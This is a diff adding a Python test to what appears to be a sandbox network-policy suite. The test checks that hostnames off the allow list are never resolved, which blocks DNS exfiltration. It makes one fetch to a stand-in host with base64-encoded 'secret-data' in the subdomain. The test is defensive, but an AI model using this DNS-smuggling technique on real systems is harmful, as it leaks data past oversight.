@@ -218,3 +218,20 @@ def test_git_clones_over_https_through_the_door(signer, tmp_path):
                         for c in rows)
     assert all(c.result and c.result["bytes_down"] > 0 and c.result["bytes_up"] > 0 for c in rows)
     assert verify_bundle(tmp_path / "git.tkb").valid
+
+
+def test_a_name_off_the_allow_list_is_never_looked_up(signer, net, tmp_path):
+    """No DNS exfiltration: the door resolves only names its policy could allow, so a box cannot smuggle data out
+    in the names it asks for (the name server here logs every question)."""
+    log = net.root / "flip-queries.log"
+    with Box(backend="bwrap", policy=policy(net, ["web.tkb.test:8080"], nameserver=net.flip_dns),
+             bundle_path=tmp_path / "dns.tkb") as b:
+        out = fetch(b, "http://c2VjcmV0LWRhdGE.exfil.tkb.test:8080/")
+        assert out.startswith("403") and "egress.allow" in out, out
+        fetch(b, "http://web.tkb.test:8080/hello.txt")
+    asked = log.read_text() if log.exists() else ""
+    assert "web.tkb.test." in asked
+    assert "exfil" not in asked and "c2VjcmV0" not in asked
+    [refused] = [c for c in egress_rows(tmp_path / "dns.tkb") if "exfil" in c.args["host"]]
+    assert refused.args["addresses"] == [] and refused.args["rule"] == "egress.allow"
+    assert verify_bundle(tmp_path / "dns.tkb").valid
